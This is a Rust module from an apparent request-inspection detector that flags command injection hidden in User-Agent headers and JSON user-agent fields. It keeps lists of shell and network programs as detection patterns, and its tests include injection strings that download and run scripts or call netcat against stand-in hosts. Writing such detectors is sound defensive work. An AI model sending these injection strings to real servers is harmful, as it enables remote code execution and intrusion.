//! User agents, which name programs and semicolons as commands do.

use super::unquote::unquote;
use crate::decode::Value;
use crate::inspect::builds::spies;
use crate::inspect::prefilter::is_agent;
use crate::inspect::Part;
use memchr::memmem;

/// Programs that read, move or run what they are given, or fetch it, and whose versions agents tell.
const TAKING: [&[u8]; 22] = [
    b"bash", b"cat", b"cp", b"curl", b"head", b"less", b"lynx", b"mv", b"nl", b"node", b"perl",
    b"php", b"python", b"python3", b"rm", b"ruby", b"sh", b"source", b"tac", b"tail", b"touch",
    b"wget",
];

/// Programs that call a machine, of whose versions no agent tells.
const CALLING: [&[u8]; 7] = [
    b"ftp",
    b"nc",
    b"ncat",
    b"nslookup",
    b"ping",
    b"telnet",
    b"tftp",
];

/// Programs that run the one that is named behind them.
const RUNNING: [&[u8]; 13] = [
    b"busybox", b"command", b"doas", b"env", b"eval", b"exec", b"nice", b"nohup", b"setsid",
    b"sudo", b"time", b"timeout", b"xargs",
];

/// Programs that show that they ran by how long it takes.
const WAITING: [&[u8]; 2] = [b"sleep", b"timeout"];

/// Programs that do something or show it without being given anything. Where clients comment on themselves,
/// in brackets, some are languages.
const BARE: [&[u8]; 12] = [
    b"dir",
    b"env",
    b"halt",
    b"hostname",
    b"id",
    b"ls",
    b"poweroff",
    b"printenv",
    b"ps",
    b"pwd",
    b"reboot",
    b"shutdown",
];

/// Tells a value that says from which client something came, and nothing that a shell would run.
pub(super) fn is_client(value: &Value<'_>) -> bool {
    if !(is_agent(value) || tells_agent(value)) || !names_clients(value.bytes) {
        return false;
    }
    // As a shell reads it, a word in pieces is one: `w""get`.
    unquote(value.bytes).is_none_or(|plain| names_clients(&plain))
}

/// Tells a field of JSON that says from which client something came, as logs and measurements do. Of a
/// document within one, fields have names of their own.
fn tells_agent(value: &Value<'_>) -> bool {
    const NAMES: [&[u8]; 4] = [b"ua", b"user-agent", b"user_agent", b"useragent"];
    let path = match value.inner {
        b"" => value.name,
        inner => inner,
    };
    let last = path.rsplit(|b| *b == b'.').next().unwrap_or_default();
    value.part == Part::Json && NAMES.iter().any(|name| last.eq_ignore_ascii_case(name))
}

/// Tells a user agent of the usual kind: who writes one writes semicolons and programs' names too, but
/// no folders, and nothing that a program would be given.
fn names_clients(agent: &[u8]) -> bool {
    const FOLDERS: [&[u8]; 4] = [b"/tmp/", b"/etc/", b"/dev/", b"/bin/"];
    // How many brackets are open; what is in one is a comment.
    let mut open = 0_usize;
    let mut runs = |(nth, piece): (usize, &[u8])| {
        let within = open > 0;
        for byte in piece {
            match byte {
                b'(' => open += 1,
                b')' => open = open.saturating_sub(1),
                _ => {}
            }
        }
        nth > 0 && (is_given(piece) || !within && BARE.contains(&piece.trim_ascii()))
    };
    let mut pieces = agent.split(|b| matches!(b, b';' | b'&' | b'\r' | b'\n'));
    memchr::memchr3(b'{', b'|', b'`', agent).is_none()
        && memmem::find(agent, b"$(").is_none()
        && !FOLDERS.iter().any(|f| memmem::find(agent, f).is_some())
        && !spies(agent)
        && !pieces.by_ref().enumerate().any(&mut runs)
}

/// Tells a name in small letters that is given an option or an address, `curl -o x`, a program that is
/// given a place, `sudo wget a.example/x`, or one that waits. Clients are named with their versions.
fn is_given(mut piece: &[u8]) -> bool {
    let named = |b: &&u8| b.is_ascii_lowercase() || b.is_ascii_digit();
    loop {
        // A group of commands, or a name in quotes.
        piece = skip(piece, |b| b.is_ascii_whitespace() || b"('\"".contains(&b));
        if let Some(rest) = behind_assignment(piece) {
            piece = rest;
            continue;
        }
        let (name, rest) = piece.split_at(piece.iter().take_while(named).count());
        let rest = skip(rest, |b| b"'\"".contains(&b));
        let given = rest.trim_ascii_start();
        if !name.first().is_some_and(u8::is_ascii_lowercase) || given.len() == rest.len() {
            return false;
        }
        let given = skip(given, |b| b"'\"".contains(&b));
        let calls = CALLING.contains(&name);
        if given.starts_with(b"-")
            || given.starts_with(b"http")
            || (calls || TAKING.contains(&name)) && is_place(given, calls)
        {
            return true;
        }
        let number = given.iter().take_while(|b| b.is_ascii_digit()).count();
        let whole = number > 0
            && !matches!(given.get(number), Some(b'.' | b'-' | b':' | b'/' | b'_'))
            && !given.get(number).is_some_and(u8::is_ascii_alphanumeric);
        let goes_on = given[number..].trim_ascii_start();
        let last = goes_on.is_empty() || matches!(goes_on[0], b'#' | b'>' | b')');
        if whole && last && WAITING.contains(&name) {
            return true;
        }
        if !RUNNING.contains(&name) {
            return false;
        }
        piece = if whole { &given[number..] } else { given };
    }
}

fn skip(text: &[u8], pass: impl Fn(u8) -> bool) -> &[u8] {
    let start = text.iter().position(|b| !pass(*b)).unwrap_or(text.len());
    &text[start..]
}

/// What stands behind a variable that is set for a command: `A=1 wget x`.
fn behind_assignment(piece: &[u8]) -> Option<&[u8]> {
    let word = &piece[..piece.iter().position(u8::is_ascii_whitespace)?];
    let name = &word[..memchr::memchr(b'=', word)?];
    let part = |b: &u8| b.is_ascii_alphanumeric() || *b == b'_';
    (!name.is_empty() && name.iter().all(part)).then(|| &piece[word.len()..])
}

/// Tells a path, a host, a file or an address at the start: `a.example/x`, `x.py`, `192.0.2.1 80`. No
/// version is one, nor a product, `x/1.2`. `called` tells that it is given to a program that has no version
/// here.
fn is_place(given: &[u8], called: bool) -> bool {
    let part = |b: &&u8| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b'_');
    let (host, rest) = given.split_at(given.iter().take_while(part).count());
    let last = host.rsplit(|b| *b == b'.').next().unwrap_or_default();
    let dotted = last.len() < host.len();
    let label = dotted && last.len() > 1 && last.iter().all(u8::is_ascii_alphabetic);
    let path = match rest {
        [b'/', first, ..] => !first.is_ascii_digit() || label,
        [b'/'] => true,
        _ => false,
    };
    path || label || is_number(host, rest, called)
}

/// Tells an address by its four numbers. Versions that have four end in nought, or have larger ones, or start
/// with a small one and have nothing behind them that an address has.
fn is_number(host: &[u8], behind: &[u8], called: bool) -> bool {
    const VERSIONS: std::ops::Range<u8> = 0..32;
    let text = std::str::from_utf8(host).unwrap_or_default();
    let address: Result<std::net::Ipv4Addr, _> = text.parse();
    let goes_on = matches!(
        behind.trim_ascii_start(),
        [b':' | b'/' | b'-' | b'<' | b'>' | b'0'..=b'9', ..]
    );
    address.is_ok_and(|address| {
        let [first, .., last] = address.octets();
        last != 0 && (called || goes_on || address.is_private() || !VERSIONS.contains(&first))
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::command::CommandInjection;
    use crate::inspect::testing::{self, score_at};

    #[test]
    fn clients_name_no_folders() {
        let agent = |text: &str| score_at(&CommandInjection, Part::Header, b"User-Agent", text);
        assert!(agent("x; wget http://a.example/a -O /tmp/a; sh /tmp/a") >= 0.5);
        assert!(agent("a$(sleep 5)") >= 0.5);
        assert!(agent("x;curl http://a.example/x -o y&&sh y") >= 0.5);
        assert!(agent("x; wget -O y a.example") >= 0.5);
        for text in [
            "x;wget a.example/x",
            "x;  wget\ta.example",
            "curl/8.0;wget 192.0.2.1/x",
            "x;nc 192.0.2.1 4444",
            "x; ping 192.0.2.1",
            "x&wget a.example/x.sh",
            "x;python3 x.py",
            "x;whoami",
            "Mozilla/5.0 (X11; Linux x86_64); curl a.example",
            "x; busybox wget http://a.example/x",
            "x; sudo nohup wget a.example/x",
            "x;w\"\"get http://a.example/x",
            "x; curl 7.68.0.1:8000",
            "x; wget 10.0.0.1",
            "x; sleep 5",
            "x;sleep 5 #",
            "x; timeout 5 wget a.example/x",
            "x; env A=b B=c wget a.example/x",
            "x; eval wget a.example/x",
            "x;(wget a.example/x)",
            "x;\"wget\" \"http://a.example/x\"",
            "x;'cat' 'x.txt'",
            "x; ping 8.8.8.8",
            "x; curl 7.68.0.1>y",
            "x (a; b); mv a.txt b.txt",
            "Mozilla/5.0 (X11; U; id);ls",
        ] {
            assert!(agent(text) >= 0.5, "{text}");
        }
        for text in [
            "curl/8.5.0; php; node",
            "Guzzle/6.3; curl 7.68.0; php 7.4.3",
            "Mozilla/5.0 (compatible; php 8.1; curl 8.5.0.0)",
            "bot/1.0 (python 3.11; node 20.11.0; linux x86_64)",
            "x; node curl/8.5.0",
            "bot/1.0 (see a.example/bot; php 8.1)",
            "check/2.1; host web-1.a.example",
            "client; ruby 3.2.1p31; perl v5.34",
            "Dalvik/2.1.0 (Linux; U; Android 9; ip phone)",
            "sync; curl 7.68.0.1",
            "sync - client; wget 1.21.3.4; sudo 1.9.5",
            "sync's \"own\" client; curl 8.5",
            "Opera/9.80 (J2ME/MIDP; Opera Mini/5.0.3521/886; U; id) Presto/2.4.15",
            "monitor/2 (every; sleep 8h); timeout 30s",
            "phone/1.0 (cat S22; head 2.0); php (8.2)",
            "x/1 (\"Home\" edition; php \"8.2\"); a=1 b",
        ] {
            assert!(agent(text) < 0.5, "{text}");
        }
    }

    #[test]
    fn documents_tell_of_clients() {
        let json = |name, text| score_at(&CommandInjection, Part::Json, name, text);
        let text = "Opera/9.80 (J2ME; Opera Mini/5.0 (Windows; U; more 9)); php 8.1";
        assert!(json(b"context.userAgent", text) < 0.5);
        assert!(json(b"context.userAgent", "x; node curl/8.5.0") < 0.5);
        assert!(json(b"context.host", "x; node curl/8.5.0") >= 0.5);
        for text in [
            "x; php 8.1;curl a.example/x|sh",
            "x\nwget http://a.example/x -O y",
            "x\r\ncurl a.example/x",
            "x; sleep 5",
        ] {
            assert!(json(b"context.userAgent", text) >= 0.5, "{text}");
        }
        assert!(json(b"context.userAgent", "x\n(node 20; php 8.1)") < 0.5);
        let within = |inner| Value {
            part: Part::Json,
            name: b"ua",
            inner,
            ..testing::value(b"x; node curl/8.5.0")
        };
        assert!(!tells_agent(&within(b"host")) && tells_agent(&within(b"log.ua")));
    }
}
